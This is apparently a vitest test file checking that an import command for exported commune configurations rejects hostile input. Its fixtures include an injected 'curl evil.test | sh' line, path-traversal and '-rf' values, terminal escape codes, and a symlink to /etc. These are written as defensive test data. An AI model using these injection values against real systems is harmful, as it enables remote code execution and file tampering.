import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { seedFingerprint } from "../../components/foundation/seed/derive.ts";
import { sumsFile, sumsText } from "../../scripts/export/folder.ts";
import { importCommand } from "../../scripts/import.ts";
import { communeText } from "../components/tenants/stacks.ts";

const seed = Buffer.alloc(32, 5).toString("base64");
const whole = {
  ...{ form: 1, commune: "bron", name: "Bron", exportedAt: "2026-11-27T03:00:00.000Z", toolkit: "0.1.0" },
  ...{ seed: seedFingerprint(seed, "bron"), without: [] as string[], empty: ["bron-hotspots/record"] },
  services: [
    {
      ...{
        service: "nextcloud",
        version: "33.0.7",
        host: "cloud.bron.test",
        point: "2026-11-26T02:10:00Z-000001",
      },
      data: [
        {
          path: "donnees/nextcloud/n.tar",
          bytes: 1,
          content: { kind: "files", volume: "nextcloud", files: 1 },
        },
      ],
    },
  ],
};
const files: Record<string, string> = {
  "declaration/bron/commune.yaml": communeText(""),
  "declaration/settings.json": '{ "commune:domain": "bron.test" }',
  "secrets/settings.json": "{}",
  "secrets/seed": seed,
  "donnees/nextcloud/n.tar": "x",
};

let folder: string;
let stacks: string;
let engine: string[];
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "import-hostile-"));
  stacks = join(folder, "stacks");
  mkdirSync(stacks);
  engine = [];
});
afterEach(() => {
  vi.restoreAllMocks();
  rmSync(folder, { recursive: true });
});

/** Takes over an export whose sums are right. */
async function take(
  said: object = {},
  more: Record<string, string> = {},
  prepare = () => {},
): Promise<string> {
  const from = join(folder, "away");
  for (const [path, text] of Object.entries({
    ...files,
    "export.json": JSON.stringify({ ...whole, ...said }),
    ...more,
  })) {
    mkdirSync(dirname(join(from, path)), { recursive: true });
    writeFileSync(join(from, path), text);
  }
  writeFileSync(join(from, sumsFile), await sumsText(from));
  prepare();
  const lines: string[] = [];
  const log = vi.spyOn(console, "log").mockImplementation((line: string) => void lines.push(line));
  const command = importCommand({
    stacks,
    engine: async (_, words, input) => {
      engine.push([...words, ...(input === undefined ? [] : ["<", input])].join(" "));
      return words[1] === "ls" ? "[]" : "{}";
    },
  });
  await command
    .parseAsync([from], { from: "user" })
    .catch((error: Error) => lines.push(error.message))
    .finally(() => log.mockRestore());
  return lines.join("\n");
}
const untouched = () =>
  expect([readdirSync(stacks), engine.filter((line) => /init|set/.test(line))]).toEqual([[], []]);

test("an export as this toolkit writes it is taken over", async () => {
  expect(await take()).toContain("stacks/bron and the stack bron are there");
  expect(readFileSync(join(stacks, "bron", "commune.yaml"), "utf8")).toBe(communeText(""));
});

describe("an export that says of itself what nobody declares", () => {
  test.each([
    ["commune", { commune: "../bron", seed: seedFingerprint(seed, "../bron") }],
    ["commune", { commune: "-rf", seed: seedFingerprint(seed, "-rf") }],
    ["exportedAt", { exportedAt: "\u001b[2J" }],
    ["toolkit", { toolkit: "1\u001b[2J" }],
    ["services[0].host", { services: [{ ...whole.services[0], host: "-x" }] }],
    ["services[0].point", { services: [{ ...whole.services[0], point: "1\n  curl evil.test | sh" }] }],
    [
      "services[0].data[0].path",
      { services: [{ ...whole.services[0], data: [{ ...whole.services[0]?.data[0], path: "../../x" }] }] },
    ],
    ["empty[0]", { empty: ["a\u202eb"] }],
  ])("is refused with the field and its place: %s", async (field, said) => {
    const found = await take(said);
    expect(found).toMatch(/export\.json:1:\d+ .*Nothing was changed\.$/s);
    expect(found).toContain(field.includes("empty") || field === "exportedAt" ? "export.json" : field);
    untouched();
  });

  test.each(["--help", "aws:region", "commune:context", "commune:seed"])(
    "with a setting called %s is refused: nothing is given to pulumi that is not a commune's setting",
    async (key) => {
      for (const path of ["declaration/settings.json", "secrets/settings.json"])
        expect(await take({}, { [path]: JSON.stringify({ [key]: "x" }) })).toMatch(
          new RegExp(`${path}.*${key}.*Nothing was changed\\.$`, "s"),
        );
      untouched();
    },
  );
});

describe("an export with more than a commune's declaration", () => {
  test.each(["declaration/lyon/commune.yaml", "declaration/Pulumi.lyon.yaml", "declaration/README"])(
    "such as %s is refused",
    async (path) => {
      expect(await take({}, { [path]: "x" })).toMatch(
        new RegExp(`${path.replace("declaration/", "")}.*Nothing was changed\\.$`, "s"),
      );
      untouched();
    },
  );

  test("such as links is refused, and so is a commune's folder here that leads elsewhere", async () => {
    expect(
      await take({}, {}, () => symlinkSync("/etc", join(folder, "away", "declaration", "bron", "news"))),
    ).toMatch(/news is neither a file nor a folder.*Nothing was changed\.$/s);
    untouched();
    rmSync(join(folder, "away"), { recursive: true });
    mkdirSync(join(folder, "elsewhere"));
    symlinkSync(join(folder, "elsewhere"), join(stacks, "bron"));
    expect(await take()).toContain("this is a link out of");
    expect(existsSync(join(folder, "elsewhere", "commune.yaml"))).toBe(false);
  });
});
